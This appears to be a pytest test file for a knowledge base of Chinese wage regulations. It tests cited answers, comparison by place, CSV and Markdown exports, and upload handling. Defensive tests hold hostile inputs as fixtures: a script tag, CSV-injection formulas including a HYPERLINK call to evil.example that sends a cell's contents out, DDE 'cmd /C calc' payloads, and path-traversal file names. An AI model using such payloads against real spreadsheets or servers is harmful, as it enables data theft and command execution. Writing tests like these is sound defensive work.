"""What the app shows and exports: extractive cited answer, compare by place, CSV/Markdown, uploads.

On the invented documents of tests/corpus: local regulations on wage bargaining of 杭州, 宁波, 山东 and
河南 and one on wage payment of 郑州, a national law, a notice of 温州, and texts that name no place.
"""
import csv
import io
import os
import re
import shutil
from pathlib import Path

import pytest

from kb.answer import extractive_answer, group_by_place
from kb.embed.fake import FakeEmbedder
from kb.errors import BadUpload
from kb.export import hits_to_csv, hits_to_markdown, places_to_csv, reference
from kb.ingest import save_upload
from kb.knowledgebase import KnowledgeBase
from tests.conftest import synthetic_files, textless_pdf

QUESTION = "企业工资集体协商中职工方协商代表受到哪些保护"
# What the header of tests/corpus/hangzhou-wage-bargaining-regulation.md says: approved on this day by the
# provincial congress, the last date of its enactment block.
HANGZHOU_DATE = "2015-09-25"


def regulation_files() -> list[Path]:
    """The local regulations and rules of tests/corpus: one per place, each with 第X条 articles."""
    return [path for path in synthetic_files() if re.search(r"-(regulation|measures)\.", path.name)]


@pytest.fixture(scope="module")
def corpus_kb(tmp_path_factory) -> KnowledgeBase:
    folder = tmp_path_factory.mktemp("synthetic") / "corpus"
    folder.mkdir()
    for path in synthetic_files():
        shutil.copy(path, folder / path.name)
    kb = KnowledgeBase(None, FakeEmbedder())
    kb.ingest([folder])
    return kb


def test_compare_by_place_lists_the_cities_and_provinces_side_by_side(corpus_kb):
    hits = corpus_kb.search(QUESTION, k=100)
    groups = group_by_place(hits, level="city")
    labels = ["/".join(group.place) for group in groups]
    for place in ("浙江省/杭州市", "浙江省/宁波市", "山东省", "河南省"):
        assert place in labels, labels
    # One group per place, every place of the corpus: k reaches every document.
    assert len({hit.doc_id for hit in hits}) == len(corpus_kb.documents)
    places = {"/".join(doc.meta.place[:2]) for doc in corpus_kb.documents}
    assert len(labels) == len(set(labels)) and set(labels) == places and "" in places
    assert labels[-1] == ""  # the texts that name no place come last, whatever their rank
    ranks = [group.hits[0].rank for group in groups[:-1]]
    assert ranks == sorted(ranks)  # best place first
    for group in groups:
        assert 1 <= len(group.hits) <= 2 and all(hit.meta.place[:2] == group.place for hit in group.hits)
    # Hangzhou's and Ningbo's answers are their protections of worker representatives.
    hangzhou = groups[labels.index("浙江省/杭州市")].hits[0]
    assert "协商代表" in hangzhou.text and hangzhou.article
    provinces = ["/".join(group.place) for group in group_by_place(hits, level="province")]
    assert "浙江省" in provinces and "浙江省/杭州市" not in provinces
    table = list(csv.reader(io.StringIO(places_to_csv(groups))))
    assert table[0][:4] == ["place", "passage_1", "citation_1", "date_1"]
    assert [row[0] for row in table[1:]] == [*labels[:-1], "未标明地区"]
    hangzhou_row = table[1 + labels.index("浙江省/杭州市")]
    assert "《杭州市企业工资集体协商条例》" in hangzhou_row[2] and hangzhou_row[3] == HANGZHOU_DATE


def test_extractive_answer_quotes_sentences_of_the_top_passages(corpus_kb):
    hits = corpus_kb.search(QUESTION, k=10)
    answer = corpus_kb.answer(QUESTION, hits)
    assert 1 <= len(answer) <= 3
    documents = {doc.id: doc.text for doc in corpus_kb.documents}
    for sentence in answer:
        # Quoted, not written: the sentence is the document's text at its span, in a cited passage.
        assert documents[sentence.doc_id][sentence.start:sentence.end] == sentence.text
        cited = hits[sentence.citation - 1]
        assert cited.rank == sentence.citation and cited.start <= sentence.start < sentence.end <= cited.end
    assert any("协商代表" in sentence.text for sentence in answer)
    assert corpus_kb.answer("？？", hits) == [] and corpus_kb.answer(QUESTION, []) == []
    assert extractive_answer("？？", hits) == [] and extractive_answer(QUESTION, []) == []


def test_a_traditional_query_gets_the_answer_of_its_simplified_form(corpus_kb):
    for simplified, traditional in (("工资集体协商", "工資集體協商"), (QUESTION, "企業工資集體協商中職工方協商代表受到哪些保護")):
        answer = corpus_kb.answer(simplified, corpus_kb.search(simplified, k=10))
        assert answer and corpus_kb.answer(traditional, corpus_kb.search(traditional, k=10)) == answer
        # The words are what match: the traditional form alone shares none with the simplified text.
        assert extractive_answer(traditional, corpus_kb.search(simplified, k=10)) == \
            extractive_answer(simplified, corpus_kb.search(simplified, k=10))


def test_exports_carry_citations_and_gbt7714_references(corpus_kb):
    hits = corpus_kb.search(QUESTION, k=5)
    rows = list(csv.DictReader(io.StringIO(hits_to_csv(hits))))
    assert [int(row["rank"]) for row in rows] == [1, 2, 3, 4, 5]
    assert all(row["text"] == hit.text and row["place"] and row["doc_type"] == hit.meta.doc_type != ""
               for row, hit in zip(rows, hits))
    markdown = hits_to_markdown(QUESTION, hits)
    assert markdown.startswith(f"# 检索：{QUESTION}")
    body, references = markdown.split("## 参考文献")
    numbers = re.findall(r"^\[(\d+)\] ", references, re.MULTILINE)
    assert numbers == [str(n) for n in range(1, len({hit.doc_id for hit in hits}) + 1)]
    for hit in hits:
        assert f"《{hit.title}》" in body and reference(hit) in references.replace("\\", "")
    hangzhou = next(doc for doc in corpus_kb.documents if doc.title == "杭州市企业工资集体协商条例")
    hit = next(h for h in corpus_kb.search("杭州市企业工资集体协商条例", k=30) if h.doc_id == hangzhou.id)
    assert reference(hit) == f"杭州市人民代表大会常务委员会. 杭州市企业工资集体协商条例[Z]. {HANGZHOU_DATE}."


def test_markdown_export_quotes_document_markup_as_text(corpus_kb):
    hit = corpus_kb.search(QUESTION, k=1)[0]
    hostile = hit.__class__(**{**hit.__dict__, "text": "第一条 <script>alert(1)</script> [链接](http://x) *强调*"
                                                         " ![图](http://x/y.png) $x^2$ ~~删除~~"})
    markdown = hits_to_markdown("<b>查询</b>", [hostile])
    assert "<script>" not in markdown and "<b>" not in markdown and "[链接](http" not in markdown
    assert "\\<script\\>" in markdown
    assert not re.search(r"(?<!\\)(!|\$|~)", markdown)  # every ! $ ~ of the document escaped
    assert "\\!\\[图\\]\\(http\\:" in markdown and "\\$x^2\\$" not in markdown and "\\$x\\^2\\$" in markdown


def test_csv_cells_from_documents_never_start_a_formula(tmp_path):
    """OWASP's CSV injection: a title or passage opening with = + - @ (or tab, CR) is written as text."""
    docs = tmp_path / "docs"
    docs.mkdir()
    hostile = {"link.txt": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看工资标准")\n拖欠工资的用人单位依法查处。',
               "dde.txt": "@SUM(1+1)*cmd|' /C calc'!A0 工资通知\n拖欠工资的,劳动者可以申请支付令。",
               "minus.txt": "-2+3+cmd|' /C calc'!A0 欠薪\n拖欠工资应当依法支付。",
               "plus.md": "# +86 工资 热线\n拖欠工资可以拨打热线。",
               "wide.txt": "＝1+1 全角等号的工资通知\n拖欠工资的处理。"}  # NFKC makes ＝ an ASCII =
    for name, text in hostile.items():
        (docs / name).write_text(text, encoding="utf-8")
    kb = KnowledgeBase(None, FakeEmbedder())
    kb.ingest([docs])
    hits = kb.search("拖欠工资", k=10)
    assert len(hits) == 5
    exported = [hits_to_csv(hits), places_to_csv(group_by_place(hits))]
    for text in exported:
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    rows = list(csv.DictReader(io.StringIO(exported[0])))
    assert {row["title"] for row in rows} == {"'" + hit.title for hit in hits}  # every title is hostile
    assert {row["text"] for row in rows} == {("'" if hit.doc_id != "docs/plus.md" else "") + hit.text for hit in hits}
    assert all(float(row["score"]) == round(hit.score, 6) for row, hit in zip(rows, hits))


def test_uploads_stay_in_the_folder_and_bad_ones_are_refused(tmp_path):
    folder = tmp_path / "uploads"
    data = "关于根治欠薪的通知\n用人单位应当按时足额支付工资。".encode()
    for name in ("../../etc/通知.txt", "/abs/path/通知.txt", "..\\..\\通知.txt", "通\x00知.txt", ".通知.txt"):
        path = save_upload(folder, name, data)
        assert path.parent == folder and path.read_bytes() == data
        assert not (tmp_path / "通知.txt").exists() and not (tmp_path.parent / "etc").exists()
    assert sorted(p.name for p in folder.iterdir()) == ["通知.txt"]
    assert save_upload(folder, "名单 2024 😀.md", b"# x").name == "名单 2024 😀.md"
    assert save_upload(folder, "名单\udc80.md", b"# x").name == "名单.md"  # a lone surrogate has no bytes to store
    for name, payload, reason in (("a.exe", data, "unsupported file type"), ("..", data, "not a usable"),
                                  ("空.txt", b"", "empty"), ("大.txt", b"x" * 101, "upload limit")):
        with pytest.raises(BadUpload, match=reason):
            save_upload(folder, name, payload, max_bytes=100)


# An upload named with a whole judicial interpretation's title: 80 Chinese characters, 244 bytes
# with ".pdf" — under the 255-byte limit of a file name, yet refused with "File name too long"
# while its temporary file (the name plus 14 bytes) was written.
LONG_TITLE = ("最高人民法院最高人民检察院关于办理利用互联网移动通讯终端声讯台制作复制出版贩卖传播淫秽电子信息刑事"
              "案件具体应用法律若干问题的解释二二〇一〇年二月二日发布施行全文")


def name_max(folder: Path) -> int:
    return os.pathconf(folder, "PC_NAME_MAX")


def test_an_eighty_character_chinese_name_is_stored_as_it_is(tmp_path):
    assert len(LONG_TITLE) == 80 and len((LONG_TITLE + ".pdf").encode()) == 244
    data = textless_pdf(tmp_path / "scan.pdf").read_bytes()
    path = save_upload(tmp_path / "uploads", LONG_TITLE + ".pdf", data)
    assert path.name == LONG_TITLE + ".pdf" and path.read_bytes() == data
    assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temporary file left


def test_long_names_are_cut_within_the_name_limit_and_stay_distinct(tmp_path):
    folder = tmp_path / "uploads"
    folder.mkdir()
    limit = name_max(folder)
    # The same first 80 characters, different endings, each beyond the limit.
    names = [LONG_TITLE + "附件一职工代表大会实施细则及配套表格.docx", LONG_TITLE + "附件二职工代表大会实施细则及配套表格.docx"]
    assert all(len(name.encode()) > limit for name in names)
    paths = [save_upload(folder, name, f"第{n}份".encode()) for n, name in enumerate(names)]
    assert len({path.name for path in paths}) == 2 and sorted(p.name for p in folder.iterdir()) == sorted(
        path.name for path in paths)
    for n, (name, path) in enumerate(zip(names, paths)):
        stored = path.name
        assert len(stored.encode()) <= limit and stored.endswith(".docx")
        head = stored.rsplit("-", 1)[0]
        assert len(head) >= 70 and name.startswith(head)  # cut between characters, never inside one
        assert path.read_bytes() == f"第{n}份".encode()
    # The same name uploaded again replaces its file, as a shorter name does.
    again = save_upload(folder, names[0], "新版本".encode())
    assert again == paths[0] and again.read_text(encoding="utf-8") == "新版本"
    assert len(list(folder.iterdir())) == 2
    # A name of four-byte characters is cut between characters too, and keeps its extension.
    emoji = save_upload(folder, "😀" * 100 + ".md", b"# x")
    assert len(emoji.name.encode()) <= limit and emoji.name.startswith("😀" * 50) and emoji.suffix == ".md"
